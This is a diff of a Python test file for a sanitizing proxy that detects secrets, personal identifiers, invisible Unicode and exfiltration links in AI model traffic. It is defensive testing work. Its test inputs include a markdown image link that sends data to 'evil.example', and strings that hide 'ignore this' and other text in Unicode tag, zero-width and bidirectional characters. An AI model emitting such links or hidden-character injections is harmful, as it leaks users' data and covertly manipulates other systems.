@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import time
 from collections import Counter
+from pathlib import Path
 from typing import Any
 
 import pytest
@@ -25,6 +26,7 @@ from clawproxy_sanitize.prefixes import follow
 from clawproxy_sanitize.samples import BENIGN, LETTERS, PERSONAL_SAMPLES, SAMPLES
 from clawproxy_sanitize.scanner import DOUBTS, Doubts, Scanner, options
 from clawproxy_sanitize.settings import InjectionSettings, InvisibleSettings, LinkSettings, PersonalSettings
+from tests.docs import sanitize_rates
 
 ALL = PersonalSettings(("all",))
 SHAPES = {shape.name: shape for shape in (*CATALOGUE, *PERSONAL, link((), "data"))}
@@ -117,7 +119,8 @@ def test_ten_kilobytes_cost_little() -> None:
 
 
 def test_every_kind_of_personal_data_has_a_sample_and_is_off_by_default() -> None:
-    assert list(PERSONAL_SAMPLES) and set(PERSONAL_SAMPLES) == {shape.name for shape in PERSONAL}
+    assert list(PERSONAL_SAMPLES)
+    assert set(PERSONAL_SAMPLES) == {shape.name for shape in PERSONAL}
     default = scanner()
     for sample in PERSONAL_SAMPLES.values():
         assert once(default, sample) is sample
@@ -147,9 +150,16 @@ def test_a_changed_check_digit_is_no_match(name: str) -> None:
 @pytest.mark.parametrize(
     ("check", "good", "bad"),
     [
-        (checks.is_card, ["4111111111111111", "378282246310005", "5555-5555-5555-4444", "6011000990139424"], ["0000000000000000", "4111111111111112"]),
-        (checks.is_iban, ["GB29NWBK60161331926819", "FR1420041010050500013M02606", "NO9386011117947", "NL91 ABNA 0417 1643 00"],
-         ["GB29NWBK60161331926818", "XX29NWBK60161331926819", "DE893704"]),
+        (
+            checks.is_card,
+            ["4111111111111111", "378282246310005", "5555-5555-5555-4444", "6011000990139424"],
+            ["0000000000000000", "4111111111111112"],
+        ),
+        (
+            checks.is_iban,
+            ["GB29NWBK60161331926819", "FR1420041010050500013M02606", "NO9386011117947", "NL91 ABNA 0417 1643 00"],
+            ["GB29NWBK60161331926818", "XX29NWBK60161331926819", "DE893704"],
+        ),
         (checks.is_ssn, ["219-09-9999"], ["000-12-3456", "666-12-3456", "123-00-4567", "123-45-0000"]),
         (checks.is_nino, ["AB123456C"], ["GB123456C", "ZZ123456C"]),
         (checks.is_steuer_id, ["86095742719", "65929970489"], ["86095742718", "12345678901", "11111111111"]),
@@ -163,7 +173,7 @@ def test_a_changed_check_digit_is_no_match(name: str) -> None:
         (checks.is_ahv, ["756.9217.0769.85"], ["756.9217.0769.84"]),
         (checks.is_phone, ["+49 30 1234567"], ["+11111111111"]),
     ],
-)  # fmt: skip
+)
 def test_check_digits(check: Any, good: list[str], bad: list[str]) -> None:
     assert [text for text in good if check(text.encode()) != len(text)] == []
     assert [text for text in bad if check(text.encode())] == []
@@ -239,7 +249,7 @@ TAGS = "".join(chr(0xE0000 + ord(char)) for char in "ignore this")
         (f"hello{TAGS} world", "hello world"),
         ("pay\u202eevil\u202c me", "payevil me"),
         ("s\u200bk\u200d-p\u2060roj\ufeff", "sk-proj"),
-        ("a\ufe0f1\ufe0f", "a1"),
+        ("a\ufe0fb 1\ufe0f\u20e3 2\ufe0e", "ab 1\ufe0f\u20e3 2"),
         ("x\U000e0100y", "xy"),
         ("s\U000e0041\u200bk", "sk"),
         ("\ufeffstart", "\ufeffstart"),
@@ -276,7 +286,8 @@ async def test_invisible_characters_flagged_and_blocked() -> None:
 
 def test_the_bytes_of_a_provider_do_not_carry_them_on() -> None:
     tap = clawproxy_sanitize.tap_response(make_exchange(), configured())
-    assert tap is not None and tap.raw is not None
+    assert tap is not None
+    assert tap.raw is not None
     assert tap.raw(b'{"x":"plain"}')
     assert not tap.raw(f'{{"x":"{TAGS}"}}'.encode())
     assert not tap.raw(b'{"x":"pay\\u202eevil"}')
@@ -328,7 +339,8 @@ def test_all_links_but_those_allowed() -> None:
 def test_links_are_looked_for_in_answers_only() -> None:
     state = configured(links=LinkSettings("redact"))
     text = f"![a](https://evil.example/?d={DATA})"
-    assert state.input is not None and state.output is not None
+    assert state.input is not None
+    assert state.output is not None
     assert once(state.input, text) is text
     assert once(state.output, text) != text
 
@@ -400,3 +412,23 @@ async def test_a_clean_exchange_is_recorded_too() -> None:
     await prepared(make_request(BENIGN), configured(), exchange)
     assert exchange.scanned is not None
     assert (exchange.scanned.prompt_bytes, exchange.scanned.found()) == (len(BENIGN), {})
+
+
+# --- what the page says ------------------------------------------------------------------------------------------------------
+
+
+def test_the_page_names_every_group_and_pattern() -> None:
+    page = (Path(__file__).parents[2] / "docs" / "sanitize.md").read_text()
+    assert f"{len(CATALOGUE)} formats" in page
+    assert [shape.name for shape in PERSONAL if f"`{shape.name}`" not in page] == []
+
+
+def test_nothing_of_the_benign_corpus_is_taken_for_a_secret_and_little_for_an_injection() -> None:
+    """The figures stand in docs/sanitize.md, which is generated; here is what they must not fall behind."""
+    for row in sanitize_rates.false_positives():
+        kind, total, flagged, secrets, others = row
+        assert int(flagged) <= int(total) / 20, kind
+        assert (secrets, others.split(" | ")[0]) == ("0", "0"), kind
+    found = dict(sanitize_rates.detection())
+    assert found["secrets, one of each format"].endswith("100 %")
+    assert all(int(share.split()[0]) > 0 for what, share in found.items() if "secrets, base64" not in what)
